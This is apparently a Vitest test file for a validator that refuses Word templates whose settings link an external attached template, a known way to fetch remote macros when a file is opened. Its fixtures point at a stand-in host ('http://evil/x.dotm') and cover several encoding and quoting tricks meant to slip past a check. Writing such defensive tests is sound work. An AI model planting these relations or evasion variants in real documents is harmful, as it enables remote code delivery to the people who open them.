import { describe, expect, test } from 'vitest'
import {
  listOfRelations,
  officeRelations,
  packageRelations,
  problemKeys,
  problemSentences,
  putting,
} from './changed-template'

const template = `Id="a" Type="${officeRelations}/attachedTemplate" Target="http://evil/x.dotm"`
const settings = 'word/_rels/settings.xml.rels'

describe('a template that another one would be fetched for', () => {
  test.each([
    ['double quotes', `<Relationship ${template} TargetMode="External"/>`],
    ['single quotes', `<Relationship ${template} TargetMode='External'/>`],
    ['a character by its number', `<Relationship ${template} TargetMode="&#69;xternal"/>`],
    ['a mode that there is not', `<Relationship ${template} TargetMode="external"/>`],
    ['an address that it calls its own', `<Relationship ${template}/>`],
    ['a prefix', `<r:Relationship xmlns:r="${packageRelations}" ${template} TargetMode="External"/>`],
    ['a ">" in the address', `<Relationship ${template.replace('x.dotm', 'x?a>b')} TargetMode="External"/>`],
    [
      'a hyperlink in its name',
      `<Relationship ${template.replace('"a"', '"relationships/hyperlink"')} TargetMode="External"/>`,
    ],
  ])('is refused where the relation is written with %s', async (_, relation) => {
    expect(await problemKeys(putting(settings, listOfRelations(relation)))).toEqual([
      'letterheads.wrong.fetches',
    ])
  })

  test('is refused where the relations cannot be read for sure: blanks, UTF-16, entities of their own', async () => {
    const list = listOfRelations(`<Relationship ${template} TargetMode="External"/>`)
    const notSure = ['letterheads.wrong.notXml']

    expect(await problemKeys(putting(settings, list.replace('TargetMode=', 'TargetMode = ')))).toEqual(
      notSure,
    )
    expect(await problemKeys(putting(settings, Buffer.from(`\ufeff${list}`, 'utf16le')))).toEqual(notSure)
    expect(await problemKeys(putting(settings, `<!DOCTYPE x [<!ENTITY e "External">]>${list}`))).toEqual(
      notSure,
    )
    expect(await problemKeys(putting(settings, `<?xml version="1.0" encoding="UTF-7"?>${list}`))).toEqual(
      notSure,
    )
  })

  test('is refused where the relations are named in capitals', async () => {
    const list = listOfRelations(`<Relationship ${template} TargetMode="External"/>`)

    expect(await problemKeys(putting('word/_rels/settings.xml.RELS', list))).toEqual([
      'letterheads.wrong.fetches',
    ])
  })

  test('is told where it would be fetched from, and for what', async () => {
    const list = listOfRelations(`<Relationship ${template} TargetMode="External"/>`)

    expect(await problemSentences(putting(settings, list))).toEqual([
      'It would fetch something from another place when it is opened (a picture or a template that is only linked): “http://evil/x.dotm”, in its settings. Put it into the file.',
    ])
  })

  test('is none where a reader only clicks on a link', async () => {
    const link = `<Relationship Id="l" Type="${officeRelations}/hyperlink" Target="https://example.org" TargetMode="External"/>`

    expect(await problemKeys(putting('word/_rels/header1.xml.rels', listOfRelations(link)))).toEqual([])
  })
})
